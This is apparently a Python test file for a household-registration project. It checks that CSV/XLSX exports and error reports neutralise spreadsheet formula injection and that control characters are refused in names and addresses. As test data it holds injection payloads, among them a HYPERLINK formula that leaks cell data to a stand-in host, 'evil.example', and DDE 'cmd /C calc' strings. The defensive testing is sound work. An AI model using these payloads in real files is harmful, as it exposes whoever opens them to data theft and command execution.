"""Finding 7: names and addresses that a spreadsheet would run as formulas, and control characters.

Every CSV the project writes neutralises cells starting with ``= + - @`` (and tab or carriage
return) by an apostrophe (``core.foundation.spreadsheet``); the household import takes it off again, so an
export still imports back unchanged. XLSX text cells are strings and never formulas. Control
characters are refused in names and addresses on every way in.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncEngine

from core.bulk.exporter import ExportFormat, export_households
from core.bulk.layout import FILE_COLUMNS
from core.bulk.report import ErrorReport
from core.foundation import spreadsheet
from core.households.data import HouseholdData
from core.storage.records import HOUSEHOLDS, MEMBERS
from tests import factories
from tests.bulk_files import counts, file_rows, for_household, read_report, with_cell, write_csv
from tests.conftest import GraphQLClient, clear_data
from tests.test_bulk_import import run as import_run
from tests.test_schema_households import store
from tests.test_schema_mutations import REGISTER, UPDATE, fields_of

FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'=already quoted",
]
FORMULA_ADDRESS = "=1+1"


def formula_households() -> list[HouseholdData]:
    households = [factories.household(address=FORMULA_ADDRESS)]
    households[0].members[0].name = FORMULA_NAMES[0]
    for name in FORMULA_NAMES[1:]:
        data = factories.household()
        data.members[0].name = name
        households.append(data)
    return households


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def runs_as_formula(cell: str) -> bool:
    """A cell a spreadsheet reads as a formula: one starting with a formula character that is not a number."""
    if not cell.startswith(spreadsheet.FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=12) | st.from_regex(r"['=+\-@\t\r]{0,3}[0-9.eE+\-]{0,5}", fullmatch=True))
def test_a_neutralised_cell_never_starts_a_formula_and_restores_exactly(cell: str) -> None:
    written = spreadsheet.neutralised(cell)
    assert spreadsheet.restored(written) == cell
    assert not runs_as_formula(written)


def test_negative_numbers_stay_numbers_and_formulas_get_an_apostrophe() -> None:
    assert [spreadsheet.neutralised(c) for c in ("-6.4812", "+62", "-1e-05", "-", "-1+2", "\t=1", "@x")] == [
        "-6.4812",
        "+62",
        "-1e-05",
        "'-",
        "'-1+2",
        "'\t=1",
        "'@x",
    ]
    out = io.StringIO()
    spreadsheet.writer(out).writerow(["=1+1", -6.5, None, 3, "Budi"])
    assert out.getvalue() == "'=1+1,-6.5,,3,Budi\r\n"


async def test_finding_7_csv_export_neutralises_formulas_and_imports_back_unchanged(
    db: AsyncEngine, tmp_path: Path
) -> None:
    households = formula_households()
    await store(db, households)
    path = tmp_path / "export.csv"
    await export_households(db, "32", path, ExportFormat.CSV)

    rows = cells_of(path.read_text(encoding="utf-8"))
    name, address, latitude = (FILE_COLUMNS.index(c) for c in ("name", "address", "latitude"))
    heads = {row[name] for row in rows[1:]}
    assert heads >= {"'" + n for n in FORMULA_NAMES}  # "'=already quoted" gets a second apostrophe
    assert {row[address] for row in rows[1:]} == {"'" + FORMULA_ADDRESS, "Jl. Melati No. 5"}
    assert {row[latitude] for row in rows[1:]} == {"-6.48"}  # a negative number stays a number
    assert not [cell for row in rows for cell in row if runs_as_formula(cell)]

    await clear_data(db)
    summary = await import_run(db, path)
    assert (summary.loaded, summary.rejected) == (len(households), 0)
    async with db.connect() as conn:
        names = set(await conn.scalars(select(MEMBERS.c.name)))
        addresses = set(await conn.scalars(select(HOUSEHOLDS.c.address)))
    assert names >= set(FORMULA_NAMES) and addresses == {FORMULA_ADDRESS, "Jl. Melati No. 5"}


async def test_finding_7_xlsx_export_keeps_formula_text_as_text_cells(db: AsyncEngine, tmp_path: Path) -> None:
    await store(db, formula_households())
    path = tmp_path / "export.xlsx"
    await export_households(db, "32", path, ExportFormat.XLSX)

    sheet = openpyxl.load_workbook(path).worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert texts >= {*FORMULA_NAMES, FORMULA_ADDRESS}  # the values as they are: a string cell never runs

    await clear_data(db)
    summary = await import_run(db, path)
    assert (summary.loaded, summary.rejected) == (len(FORMULA_NAMES), 0)
    async with db.connect() as conn:
        assert set(await conn.scalars(select(MEMBERS.c.name))) >= set(FORMULA_NAMES)


def test_finding_7_the_import_error_report_neutralises_its_cells(tmp_path: Path) -> None:
    path = tmp_path / "h.errors.csv"
    with ErrorReport(path) as report:
        report.add([(2, "name", '=HYPERLINK("http://evil.example","x")'), (3, "address", "@SUM(1)")])
    assert read_report(path) == [(2, "name", '\'=HYPERLINK("http://evil.example","x")'), (3, "address", "'@SUM(1)")]


async def test_finding_7_control_characters_in_names_and_addresses_are_refused_by_the_api(
    db: AsyncEngine, gql: GraphQLClient
) -> None:
    data = factories.household(address="Jl. Melati\u202e5 .oN")  # a right-to-left override: displays reversed
    data.members[1].name = "Siti\x1b[31m Aminah"
    result = (await gql(REGISTER, {"input": factories.household_input(data)}))["registerHousehold"]
    assert fields_of(result) == {
        "address": "address holds the control character U+202E; only one line of printable text is taken",
        "members.1.name": "name holds the control character U+001B; only one line of printable text is taken",
    }
    assert await counts(db) == (0, 0)

    created = (await gql(REGISTER, {"input": factories.household_input(factories.household())}))["registerHousehold"]
    for address in ("Jl. Melati\nNo. 5", "Jl.\tMelati", "Jl. Melati\u2028No. 5", "Jl. Melati\x85"):
        changed = await gql(UPDATE, {"id": created["id"], "version": 1, "changes": {"address": address}})
        assert list(fields_of(changed["updateHousehold"])) == ["address"]
    async with db.connect() as conn:
        assert await conn.scalar(select(HOUSEHOLDS.c.version)) == 1


async def test_finding_7_control_characters_in_a_file_are_row_errors(db: AsyncEngine, tmp_path: Path) -> None:
    good, bad = factories.household(), factories.household()
    rows = with_cell(file_rows([good, bad]), 4, "name", "Siti\x00Aminah")  # the second household's second member

    def bell_in_address(row: list[str]) -> None:
        row[FILE_COLUMNS.index("address")] = "Jl. Melati\x07"

    rows = for_household(rows, bad.kk_number, bell_in_address)
    summary = await import_run(db, write_csv(tmp_path / "h.csv", rows))

    assert (summary.loaded, summary.rejected) == (1, 1)
    assert read_report(summary.report) == [
        (5, "address", "address holds the control character U+0007; only one line of printable text is taken"),
        (6, "name", "name holds the control character U+0000; only one line of printable text is taken"),
    ]
    assert await counts(db) == (1, 3)
